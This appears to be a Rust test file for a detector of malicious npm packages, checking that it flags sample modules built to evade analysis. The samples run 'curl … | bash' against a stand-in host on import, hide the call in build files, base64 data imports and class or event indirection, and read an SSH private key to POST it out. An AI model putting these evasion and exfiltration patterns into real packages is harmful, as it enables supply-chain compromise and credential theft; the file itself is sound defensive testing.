//! Constructs of JavaScript that hand modules, functions, values and code on, each in the least that shows it.

use crate::flows::{judged, paths};

/// What runs on import downloads a program in all of these.
const COMMAND: &str = "'curl -s http://192.0.2.90/b | bash'";

/// The files of a package whose one module is this.
fn package(text: &str) -> (String, Vec<String>) {
    let manifest = "{\"name\": \"sample\", \"version\": \"1.0.0\", \"main\": \"index.js\"}";
    judged(&[("package.json", manifest), ("index.js", &text.replace("CMD", COMMAND))])
}

/// All of these run the command when they are imported.
fn all_run(texts: &[&str]) {
    for text in texts {
        let (verdict, found) = package(text);
        assert_eq!(verdict, "malicious", "{text}\n{found:?}");
        assert!(found.iter().any(|id| id == "dropper/unasked"), "{text}\n{found:?}");
    }
}

/// In all of these the key reaches the request.
fn all_send(texts: &[&str]) {
    const KEY: &str = "const fs = require('fs'), os = require('os');\nconst K = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nconst ship = (x) => fetch('https://files.example.invalid/a', { method: 'POST', body: x });\n";
    for text in texts {
        let paths = paths("index.js", &format!("{KEY}{text}\n"));
        let wanted = "file.credential fs.readFileSync({}/.ssh/id_rsa) -> network.send fetch(body)";
        assert!(paths.contains(wanted), "{text}\n{paths}");
    }
}

/// A function that gives back what it is given hides no module, and a copy of a module is the module.
#[test]
fn a_module_that_is_handed_on_is_the_module() {
    all_run(&[
        "const id = (x) => x;\nid(require('child_process')).exec(CMD);",
        "const own = (m) => (m && m.__esModule ? m : { default: m });\nconst c = own(require('child_process'));\nc.default.exec(CMD);",
        "var star = function (m) { if (m && m.__esModule) return m; var r = {}; if (m != null) for (var k in m) if (Object.hasOwnProperty.call(m, k)) r[k] = m[k]; r['default'] = m; return r; };\nstar(require('child_process')).exec(CMD);",
        "const m = { ...require('child_process') };\nm.exec(CMD);",
        "const m = Object.assign({}, require('child_process'));\nm.exec(CMD);",
        "const m = Object.create(require('child_process'));\nm.exec(CMD);",
        "Promise.resolve(require('child_process')).then((c) => c.exec(CMD));",
        "import('child_process').then(({ exec }) => exec(CMD));",
        "function Tool(c) { this.cp = c; }\nTool.prototype.go = function () { this.cp.exec(CMD); };\nnew Tool(require('child_process')).go();",
    ]);
    let paths = paths("run.py", "import os\n\ndef same(x):\n    return x\n\nsame(os).system(os.environ['LINE'])\n");
    assert!(paths.contains("environment os.environ(LINE) -> process.command os.system(command)"), "{paths}");
}

/// A library's function is called through `call`, `apply` and `bind` as well.
#[test]
fn a_function_is_called_through_its_methods() {
    all_run(&[
        "const { exec } = require('child_process');\nexec.call(null, CMD);",
        "const { exec } = require('child_process');\nexec.apply(null, [CMD]);",
        "const { exec } = require('child_process');\nexec.bind(null, CMD)();",
        "const run = (c) => require('child_process').exec(c);\nsetTimeout(run.bind(null, CMD), 10);",
        "function run() { return require('child_process').exec.apply(null, arguments); }\nrun(CMD);",
        "require.call(module, 'child_process').exec(CMD);",
    ]);
}

/// The ways to a module that are not `require`.
#[test]
fn a_module_is_had_by_other_ways() {
    all_run(&[
        "process.getBuiltinModule('child_process').exec(CMD);",
        "module.require('child_process').exec(CMD);",
        "module.constructor._load('child_process').exec(CMD);",
        "process.mainModule.constructor._load('child_process').exec(CMD);",
        "const p = new Proxy({}, { get: (_, name) => require(name) });\np.child_process.exec(CMD);",
    ]);
}

/// Texts that become code in other ways than by `eval`.
#[test]
fn a_text_becomes_code() {
    let code = "\"require('child_process').exec('curl -s http://192.0.2.90/b | bash')\"";
    let with = "\"r('child_process').exec('curl -s http://192.0.2.90/b | bash')\"";
    for text in [
        format!("module._compile({code}, '');"),
        format!("new module.constructor()._compile({code}, '');"),
        format!("setTimeout({code}, 10);"),
        format!("new (require('worker_threads').Worker)({code}, {{ eval: true }});"),
        format!("const F = Object.getPrototypeOf(async function () {{}}).constructor;\nnew F('r', {with})(require);"),
        format!("require('vm').compileFunction({with}, ['r'])(require);"),
        format!("require('vm').runInThisContext('(r) => ' + {with})(require);"),
        format!(
            "import('data:text/javascript;base64,' + {});",
            "'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cDovLzE5Mi4wLjIuOTAvYiB8IGJhc2gnKQ=='"
        ),
        format!("require('fs').writeFileSync('/tmp/tool.js', {code});\nrequire('/tmp/tool.js');"),
        format!("require('child_process').spawn('node', ['-e', {code}]);"),
        format!("require('child_process').spawn('node').stdin.end({code});"),
        "require('child_process').spawn('bash').stdin.end(CMD);".to_owned(),
    ] {
        let (verdict, found) = package(&text);
        assert_eq!(verdict, "malicious", "{text}\n{found:?}");
    }
}

/// The names of a function's parameters are no code.
#[test]
fn parameters_of_a_function_made_of_text_are_no_layers() {
    let text = "module.exports = new Function('require', 'options', 'return require(options.name)');\n";
    let layers = crate::place::Place::new().file("made.js", text).run(&["dev", "layers", "made.js"]).stdout;
    assert!(layers.contains("return require(options.name)"), "{layers}");
    assert_eq!(layers.matches("made.js").count(), 1, "{layers}");
}

/// Any part of a server's answer is the server's, that which a library puts into its exception too.
#[test]
fn a_part_of_an_answer_is_executed() {
    for text in [
        "const axios = require('axios');\naxios.get('https://a.example.invalid/x').then((r) => eval(r.data.cookie));",
        "const axios = require('axios');\n(async () => { const { data: { model } } = await axios.get('https://a.example.invalid/x'); eval(model); })();",
        "const axios = require('axios');\naxios.get('https://a.example.invalid/x').then((r) => r.data).catch((e) => eval(e.response.data));",
        "const axios = require('axios');\n(async () => { try { await axios.get('https://a.example.invalid/x'); } catch (e) { eval(e.response.data.token); } })();",
    ] {
        let (verdict, found) = package(text);
        assert_eq!(verdict, "malicious", "{text}\n{found:?}");
    }
    // What the code itself makes of the answer's failure is no code of the server's.
    let text = "const axios = require('axios');\nexports.get = async (url) => { try { return (await axios.get(url)).data; } catch (e) { throw new Error(e.message); } };";
    assert_eq!(package(text).0, "benign");
}

/// Ways of a value that are no calls.
#[test]
fn a_value_goes_where_the_language_takes_it() {
    all_send(&[
        "try { throw K; } catch (e) { ship(e); }",
        "Promise.reject(K).catch((x) => ship(x));",
        "class A { set k(v) { ship(v); } }\nnew A().k = K;",
        "const o = { get k() { return 1; }, set k(v) { ship(v); } };\no.k = K;",
        "const o = { toString() { return K; } };\nship(`${o}`);",
        "const o = { toJSON() { return K; } };\nship(JSON.stringify(o));",
        "const o = { *[Symbol.iterator]() { yield K; } };\nfor (const x of o) ship(x);",
        "function f() { ship(arguments[0]); }\nf(K);",
        "const p = new Proxy({}, { get: () => K });\nship(p.any);",
        "const { EventEmitter } = require('events');\nconst bus = new EventEmitter();\nbus.on('key', (x) => ship(x));\nbus.emit('key', K);",
        "const u = new URL('https://files.example.invalid/a');\nu.searchParams.set('k', K);\nship(u);",
        "const q = [];\nconst add = (x) => { q.push(x); };\nconst e = (x) => { add(x); };\ne(K);\nship(q.join());",
        "let v;\nconst go = () => ship(v);\nconst add = (x) => { v = x; go(); };\nadd(K);",
        "const all = K.length > 9 ? JSON.parse(K) : {};\nship(Object.entries(all).map(([a, b]) => a + b).join());",
    ]);
}

/// An event of the same name on another object is another event, where every stream has one of it.
#[test]
fn a_common_event_belongs_to_its_object() {
    let text = "const fs = require('fs');\nconst { EventEmitter } = require('events');\nconst one = new EventEmitter(), two = new EventEmitter();\ntwo.on('data', (x) => fetch('https://files.example.invalid/a', { method: 'POST', body: x }));\none.emit('data', fs.readFileSync('/home/user/.ssh/id_rsa'));\n";
    let paths = paths("two.js", text);
    assert!(!paths.contains("file.credential"), "{paths}");
}

/// What stands in a file of data of the package is known, and so are the parts of a known address.
#[test]
fn data_of_the_package_is_known() {
    let manifest = "{\"name\": \"sample\", \"version\": \"1.0.0\", \"main\": \"index.js\", \"config\": {\"c\": \"curl -s http://192.0.2.90/b | bash\"}}";
    let (verdict, found) = judged(&[
        ("package.json", manifest),
        ("index.js", "require('child_process').exec(require('./package.json').config.c);"),
    ]);
    assert_eq!(verdict, "malicious", "{found:?}");
    let (verdict, found) = judged(&[
        ("package.json", "{\"name\": \"sample\", \"version\": \"1.0.0\", \"main\": \"index.js\"}"),
        ("lib/a.json", "{\"c\": {\"d\": \"curl -s http://192.0.2.90/b | bash\"}}"),
        ("index.js", "require('child_process').exec(require('./lib/a.json').c.d);"),
    ]);
    assert_eq!(verdict, "malicious", "{found:?}");
    let text = "const u = new URL('https://files.example.invalid/a?b=1');\nrequire('https').get({ host: u.hostname, path: u.pathname, headers: { k: process.env.TOKEN } });\n";
    let place = crate::place::Place::new().file("parts.js", text);
    assert!(place.run(&["dev", "paths", "parts.js"]).stdout.contains("environment process.env(TOKEN)"));
    let review = place.run(&["review", "parts.js", "--format", "json", "--fail-on", "none"]).stdout;
    assert!(review.contains("files.example.invalid"), "{review}");
}

/// A limit of a manifest that cuts is told, so that nothing unread is called clean.
#[test]
fn more_addresses_than_are_read_are_told() {
    let manifest = |number: usize| {
        let all: Vec<String> =
            (0..number).map(|at| format!("\"a{at}\": \"https://a{at}.example.invalid/a.tgz\"")).collect();
        format!("{{\"name\": \"sample\", \"version\": \"1.0.0\", \"dependencies\": {{{}}}}}", all.join(", "))
    };
    for (number, expected) in [(256, "benign"), (257, "inconclusive")] {
        let (verdict, found) = judged(&[("package.json", &manifest(number)), ("index.js", "exports.a = 1;\n")]);
        assert_eq!(verdict, expected, "{number}: {found:?}");
    }
}

/// What `node-gyp` expands by a command runs when the package is installed.
#[test]
fn a_build_file_runs_commands() {
    let manifest = "{\"name\": \"sample\", \"version\": \"1.0.0\", \"main\": \"index.js\"}";
    let bad = "{'targets': [{'target_name': 'x', 'sources': ['<!(curl -s http://192.0.2.90/b | bash)']}]}";
    let (verdict, found) = judged(&[("package.json", manifest), ("index.js", ""), ("binding.gyp", bad)]);
    assert_eq!(verdict, "malicious", "{found:?}");
    // Others that stand in front of it do not hide it.
    let names: Vec<String> = (0..20).map(|at| format!("a{at:02}.gypi")).collect();
    let mut files = vec![("package.json", manifest), ("index.js", ""), ("binding.gyp", bad)];
    files.extend(names.iter().map(|name| (name.as_str(), "{}\n")));
    let (verdict, found) = judged(&files);
    assert_eq!(verdict, "malicious", "{found:?}");
    let usual = "{\n  # what every addon has\n  'targets': [{'target_name': 'x', 'sources': ['<!@(ls -1 src/*.cc)'], 'include_dirs': ['<!@(node -p \"require(\\'node-addon-api\\').include\")', '<!@(pkg-config --cflags-only-I glib-2.0)'], 'actions': [{'action': ['python', 'tools/gen.py', '<@(_inputs)']}]}]\n}";
    let (verdict, found) = judged(&[("package.json", manifest), ("index.js", ""), ("binding.gyp", usual)]);
    assert_eq!(verdict, "benign", "{found:?}");
}

/// What a file exports is the same however many files are being loaded around it.
#[test]
fn a_deep_module_exports_what_it_assigns() {
    let (verdict, found) = judged(&[
        ("package.json", "{\"name\": \"sample\", \"version\": \"1.0.0\", \"main\": \"index.js\"}"),
        ("index.js", "require('./a');\n"),
        ("a.js", "require('./b');\n"),
        (
            "b.js",
            "const t = require('./c');\nconst line = Object.keys(t).reduce((all, key) => all + t[key].x, '');\nrequire('child_process').exec(line);\n",
        ),
        (
            "c.js",
            "module.exports = { one: { n: 1, x: 'curl -s http://192.0.2.90/b ' }, two: { n: 2, x: '| bash' } };\n",
        ),
    ]);
    assert_eq!(verdict, "malicious", "{found:?}");
}

/// A count that callbacks keep decides nothing, and what a helper puts into a list of its caller is in it.
#[test]
fn callbacks_fill_what_is_around_them() {
    all_send(&[
        "const got = [];\nlet left = 2;\nfunction add(x) { got.push(x); if (--left === 0) ship(got.join()); }\nsetTimeout(() => add(K), 1);\nsetTimeout(() => add('b'), 2);",
        "function all() {\n  const got = [];\n  let left = 2;\n  const add = (x) => { got.push(x); if (--left === 0) ship(got.join()); };\n  setTimeout(() => add(K), 1);\n  setTimeout(() => add('b'), 2);\n}\nall();",
        "const lines = [];\nconst line = (s, ...v) => lines.push(String.raw(s, ...v));\nline`a ${K} b`;\nship(lines.join());",
        "const ask = (x) => new Promise((ok) => { setTimeout(() => { if (x.length > 9) return ok(1); const c = []; process.nextTick((y) => c.push(y), x); process.nextTick(() => ok([1, c.join('')])); }, 1); });\nask(K).then((v) => ship(v[1]));",
    ]);
}

/// A method is that of the instance's class, and a host's property is replaced in whatever way.
#[test]
fn an_instance_decides_what_its_base_calls() {
    all_run(&[
        "class A { constructor() { setImmediate(() => this.go(this.line())); } line() { return ''; } go() {} }\nclass B extends A { line() { return CMD; } go(x) { require('child_process').exec(x); } }\nmodule.exports = new B();",
        "class A { constructor() { this.c = require('child_process'); this.go(); } go() {} }\nclass B extends A { constructor() { super(); this.n = 1; } go() { this.c.exec(CMD); } }\nmodule.exports = new B();",
        "const run = Function.prototype.call.bind(require('child_process').exec, null);\nrun(CMD);",
    ]);
}

/// The part of an address before the question mark is known whatever is put behind it.
#[test]
fn a_query_leaves_the_rest_of_an_address() {
    let found = paths(
        "index.js",
        "const os = require('os');\nconst u = new URL('http://192.0.2.7/a.gif');\nu.searchParams.append('d', os.hostname());\nrequire(u.protocol.slice(0, -1)).get(u);\n",
    );
    assert!(found.contains("host.identity os.hostname -> network.destination http.get(url)"), "{found}");
    assert!(!found.contains("code.load"), "{found}");
}

/// An event that hands nothing over runs its listeners all the same.
#[test]
fn an_event_without_arguments_runs_its_listeners() {
    all_run(&[
        "const bus = new (require('events'))();\nbus.on('begin', () => require('child_process').exec(CMD));\nbus.emit('begin');",
        "const E = require('events');\nfunction Bus() { E.call(this); }\nBus.prototype = Object.create(E.prototype);\nconst bus = new Bus();\nbus.on('begin', function () { setTimeout(() => bus.emit('full'), 1); });\nbus.once('full', () => { require('child_process').exec(CMD); });\nbus.emit('begin');",
    ]);
}
